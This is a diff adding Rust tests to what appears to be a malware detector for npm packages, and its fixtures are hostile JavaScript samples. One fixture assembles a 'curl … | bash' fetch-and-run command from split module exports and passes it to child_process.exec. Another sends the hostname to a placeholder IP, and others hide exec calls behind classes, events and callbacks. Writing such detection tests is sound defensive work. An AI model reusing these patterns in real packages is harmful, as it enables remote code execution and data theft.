@@ -208,3 +208,63 @@ fn a_build_file_runs_commands() {
     let (verdict, found) = judged(&[("package.json", manifest), ("index.js", ""), ("binding.gyp", usual)]);
     assert_eq!(verdict, "benign", "{found:?}");
 }
+
+/// What a file exports is the same however many files are being loaded around it.
+#[test]
+fn a_deep_module_exports_what_it_assigns() {
+    let (verdict, found) = judged(&[
+        ("package.json", "{\"name\": \"sample\", \"version\": \"1.0.0\", \"main\": \"index.js\"}"),
+        ("index.js", "require('./a');\n"),
+        ("a.js", "require('./b');\n"),
+        (
+            "b.js",
+            "const t = require('./c');\nconst line = Object.keys(t).reduce((all, key) => all + t[key].x, '');\nrequire('child_process').exec(line);\n",
+        ),
+        (
+            "c.js",
+            "module.exports = { one: { n: 1, x: 'curl -s http://192.0.2.90/b ' }, two: { n: 2, x: '| bash' } };\n",
+        ),
+    ]);
+    assert_eq!(verdict, "malicious", "{found:?}");
+}
+
+/// A count that callbacks keep decides nothing, and what a helper puts into a list of its caller is in it.
+#[test]
+fn callbacks_fill_what_is_around_them() {
+    all_send(&[
+        "const got = [];\nlet left = 2;\nfunction add(x) { got.push(x); if (--left === 0) ship(got.join()); }\nsetTimeout(() => add(K), 1);\nsetTimeout(() => add('b'), 2);",
+        "function all() {\n  const got = [];\n  let left = 2;\n  const add = (x) => { got.push(x); if (--left === 0) ship(got.join()); };\n  setTimeout(() => add(K), 1);\n  setTimeout(() => add('b'), 2);\n}\nall();",
+        "const lines = [];\nconst line = (s, ...v) => lines.push(String.raw(s, ...v));\nline`a ${K} b`;\nship(lines.join());",
+        "const ask = (x) => new Promise((ok) => { setTimeout(() => { if (x.length > 9) return ok(1); const c = []; process.nextTick((y) => c.push(y), x); process.nextTick(() => ok([1, c.join('')])); }, 1); });\nask(K).then((v) => ship(v[1]));",
+    ]);
+}
+
+/// A method is that of the instance's class, and a host's property is replaced in whatever way.
+#[test]
+fn an_instance_decides_what_its_base_calls() {
+    all_run(&[
+        "class A { constructor() { setImmediate(() => this.go(this.line())); } line() { return ''; } go() {} }\nclass B extends A { line() { return CMD; } go(x) { require('child_process').exec(x); } }\nmodule.exports = new B();",
+        "class A { constructor() { this.c = require('child_process'); this.go(); } go() {} }\nclass B extends A { constructor() { super(); this.n = 1; } go() { this.c.exec(CMD); } }\nmodule.exports = new B();",
+        "const run = Function.prototype.call.bind(require('child_process').exec, null);\nrun(CMD);",
+    ]);
+}
+
+/// The part of an address before the question mark is known whatever is put behind it.
+#[test]
+fn a_query_leaves_the_rest_of_an_address() {
+    let found = paths(
+        "index.js",
+        "const os = require('os');\nconst u = new URL('http://192.0.2.7/a.gif');\nu.searchParams.append('d', os.hostname());\nrequire(u.protocol.slice(0, -1)).get(u);\n",
+    );
+    assert!(found.contains("host.identity os.hostname -> network.destination http.get(url)"), "{found}");
+    assert!(!found.contains("code.load"), "{found}");
+}
+
+/// An event that hands nothing over runs its listeners all the same.
+#[test]
+fn an_event_without_arguments_runs_its_listeners() {
+    all_run(&[
+        "const bus = new (require('events'))();\nbus.on('begin', () => require('child_process').exec(CMD));\nbus.emit('begin');",
+        "const E = require('events');\nfunction Bus() { E.call(this); }\nBus.prototype = Object.create(E.prototype);\nconst bus = new Bus();\nbus.on('begin', function () { setTimeout(() => bus.emit('full'), 1); });\nbus.once('full', () => { require('child_process').exec(CMD); });\nbus.emit('begin');",
+    ]);
+}
